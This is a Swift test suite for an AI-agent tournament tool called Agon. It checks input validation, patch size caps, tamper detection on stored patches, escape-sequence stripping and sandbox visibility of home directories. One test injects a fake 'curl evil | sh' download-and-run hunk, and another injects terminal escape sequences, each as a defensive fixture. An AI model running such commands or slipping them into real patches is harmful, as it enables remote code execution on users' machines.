import AgonAgents
import AgonCore
import Foundation
import Testing
@testable import AgonTournament

/// The limits and input checks of the fair-play work: empty specs, paths outside the repository,
/// worktree roots Agon must not own, the patch size cap, long prompts, a rewritten patch before
/// review, raw escape sequences, and `agon:` on every error line.
@Suite struct FairPlayInputTests {
    func expectExit2(_ fixture: TournamentFixture, _ args: [String], mentions: String,
                     sourceLocation: SourceLocation = #_sourceLocation) throws {
        let (status, _, stderr) = try fixture.run([TournamentFixture.agonBinary] + args, in: fixture.repo)
        #expect(status == 2, "exit \(status): \(stderr)", sourceLocation: sourceLocation)
        #expect(stderr.hasPrefix("agon: ") && stderr.split(separator: "\n").count == 1, "\(stderr)", sourceLocation: sourceLocation)
        #expect(stderr.contains(mentions), "\(stderr)", sourceLocation: sourceLocation)
        #expect(try fixture.git("branch", "--list", "agon/*").isEmpty, sourceLocation: sourceLocation)
    }

    @Test func emptySpecIsAnInputError() throws {
        let fixture = try TournamentFixture()
        try fixture.write("specs/empty.md", "")
        try expectExit2(fixture, ["run", "specs/empty.md"], mentions: "the spec is empty")
        try expectExit2(fixture, ["validate", "specs/empty.md"], mentions: "the spec is empty")
    }

    @Test func pathsOutsideTheRepositoryAreAnInputError() throws {
        let fixture = try TournamentFixture()
        try fixture.write("specs/out.md", "---\ntitle: Out\npaths: [\"../elsewhere/**\"]\n---\nDo it.\n")
        try expectExit2(fixture, ["run", "specs/out.md"], mentions: "leaves the repository")
    }

    @Test(arguments: [("/", "is the filesystem root"), (".", "is the repository itself"), (".git/wt", "lies inside .git/"),
                      (".agon/wt", "lies inside .agon/"), ("..", "contains the repository")])
    func worktreeRootsAgonMustNotOwn(root: String, problem: String) throws {
        let fixture = try TournamentFixture(config: TournamentFixture.fourAgents + "\ndefaults: { worktree_root: \"\(root)\" }\n")
        try expectExit2(fixture, ["run", "specs/slugify.md"], mentions: problem)
    }

    @Test func aWorktreeRootIsNotSharedBetweenRepositories() throws {
        let shared = NSTemporaryDirectory() + "agon-shared-root-" + UUID().uuidString.prefix(8)
        defer { try? FileManager.default.removeItem(atPath: shared) }
        let config = "agents:\n  neat: { harness: claude, model: claude-sonnet-4-5, binary: BIN/claude, env: { DOUBLE_SOLUTIONS: SOL/neat } }\n"
            + "defaults: { worktree_root: \"\(shared)\" }\n"
        let first = try TournamentFixture(config: config)
        let run = try first.agon("run", "specs/slugify.md")
        #expect(run.status == 0, "\(run.stderr)")
        let second = try TournamentFixture(config: config)
        try expectExit2(second, ["run", "specs/slugify.md"], mentions: "already holds the runs of another repository")
        try expectExit2(second, ["clean", "--all"], mentions: "already holds the runs of another repository")
        #expect(try first.agon("clean", "--all").status == 0)
    }

    @Test func argumentParserErrorsStartWithAgon() throws {
        let fixture = try TournamentFixture()
        let (status, _, stderr) = try fixture.run([TournamentFixture.agonBinary, "list", "--limit", "many"], in: fixture.repo)
        #expect(status == 2)
        #expect(stderr.hasPrefix("agon: "), "\(stderr)")
        #expect(!stderr.contains("Error:"))
    }

    @Test func aPatchOverTheCapIsGatedOversizeAndNeverStored() throws {
        let fixture = try TournamentFixture(config: TournamentFixture.fourAgents + "\ndefaults: { max_patch_bytes: 100 }\n")
        let run = try fixture.agon("run", "specs/slugify.md", "--agents", "neat", "--json")
        #expect(run.status == 1)
        let record = try AgonJSON.decoder.decode(RunRecord.self, from: Data(run.stdout.utf8))
        let neat = try #require(record.candidate("neat"))
        #expect(neat.outcome == .oversize)
        #expect(neat.diff.patchPath == nil && (neat.diff.patchBytes ?? 0) > 100)
        #expect(neat.apiErrorMessage?.contains("over max_patch_bytes (100)") == true)
        #expect(!FileManager.default.fileExists(atPath: fixture.repo + "/.agon/runs/\(record.runID)/candidates/neat/patch.diff"))
        #expect(neat.checks.acceptance == .skipped)
    }

    @Test(arguments: [Harness.claude, .codex, .gemini, .opencode, .pi, .aider, .command])
    func promptsOver100KBGoByFile(harness: Harness) throws {
        let prompt = String(repeating: "spec line with some words\n", count: 6_500)   // ~166 KB
        let launch = AgentLaunch(harness: harness, model: "m", command: harness == .command ? ["agent", "{prompt}"] : nil,
                                 prompt: prompt, worktree: "/w", artifactsDir: "/a")
        let command = try HarnessCommand.build(for: launch, paths: HarnessCommand.Paths(artifactsDir: "/a"))
        #expect(command.arguments.allSatisfy { $0.utf8.count <= HarnessCommand.inlinePromptLimit })
        #expect(command.arguments.contains { $0.contains("/a/prompt.md") })
        let short = AgentLaunch(harness: harness, model: "m", command: harness == .command ? ["agent", "{prompt}"] : nil,
                                prompt: "short task", worktree: "/w", artifactsDir: "/a")
        let inline = try HarnessCommand.build(for: short, paths: HarnessCommand.Paths(artifactsDir: "/a"))
        #expect(harness == .aider || inline.arguments.contains("short task"))
    }

    @Test func reviewRefusesAPatchRewrittenAfterTheRun() throws {
        let fixture = try TournamentFixture(config: """
        agents:
          neat: { harness: claude, model: claude-sonnet-4-5, binary: BIN/claude, env: { DOUBLE_SOLUTIONS: SOL/neat } }
          tidy: { harness: claude, model: claude-sonnet-4-5, binary: BIN/claude, env: { DOUBLE_SOLUTIONS: SOL/neat } }
        verifiers:
          judge: { harness: gemini, model: gemini-2.5-flash, binary: BIN/gemini, env: { DOUBLE_REVIEW: sound } }
        """)
        let run = try fixture.agon("run", "specs/slugify.md", "--no-review", "--json")
        #expect(run.status == 0, "\(run.stderr)")
        let record = try AgonJSON.decoder.decode(RunRecord.self, from: Data(run.stdout.utf8))
        let patch = fixture.repo + "/" + (try #require(record.candidate("tidy")?.diff.patchPath))
        let original = try String(contentsOfFile: patch, encoding: .utf8)
        try (original + "diff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n")
            .write(toFile: patch, atomically: true, encoding: .utf8)
        let review = try fixture.agon("review", record.runID)
        #expect(review.status == 1)
        #expect(review.stderr.hasPrefix("agon: ") && review.stderr.contains("was changed after it was recorded"), "\(review.stderr)")
        // Put back, the same patch is accepted again.
        try original.write(toFile: patch, atomically: true, encoding: .utf8)
        #expect(try fixture.agon("apply", record.runID, "tidy").status == 0)
    }

    @Test func agentTextReachesTheTerminalWithoutEscapes() throws {
        let fixture = try TournamentFixture()
        try fixture.write("specs/esc.md", "---\ntitle: \"Title \\e[2J\\e]0;owned\\a with escapes\"\nacceptance: [\"true\"]\n---\nDo it.\n")
        try fixture.git("add", "-A")
        try fixture.git("commit", "-qm", "esc")
        let run = try fixture.agon("run", "specs/esc.md", "--agents", "neat")
        #expect(!run.stdout.contains("\u{1B}") && !run.stdout.contains("\u{07}"))
        #expect(run.stdout.contains("Title"))
        let show = try fixture.agon("show", "latest")
        #expect(!show.stdout.contains("\u{1B}"))
    }
}

/// Which directories of HOME a sandbox shows so CLIs installed there still run.
@Suite struct SandboxToolDirectoryTests {
    @Test func toolsUnderHomeStayVisibleButNotTheRestOfHome() throws {
        let home = NSTemporaryDirectory() + "agon-home-" + UUID().uuidString.prefix(8)
        defer { try? FileManager.default.removeItem(atPath: home) }
        for dir in [".pyenv/shims", ".nvm/versions/node/v22/bin", ".local/bin", ".local/lib", ".local/share/opencode", "bin", ".ssh"] {
            try FileManager.default.createDirectory(atPath: home + "/" + dir, withIntermediateDirectories: true)
        }
        let path = [".pyenv/shims", ".nvm/versions/node/v22/bin", ".local/bin", "bin"].map { home + "/" + $0 }.joined(separator: ":")
            + ":/usr/bin:/bin"
        let dirs = SandboxLayout.toolDirectories(home: home, path: path)
        #expect(dirs == [".pyenv", ".nvm", ".local/bin", ".local/lib", "bin"].map { home + "/" + $0 })
        #expect(!dirs.contains { $0.hasSuffix(".ssh") || $0.hasSuffix("opencode") || $0 == home })
    }
}
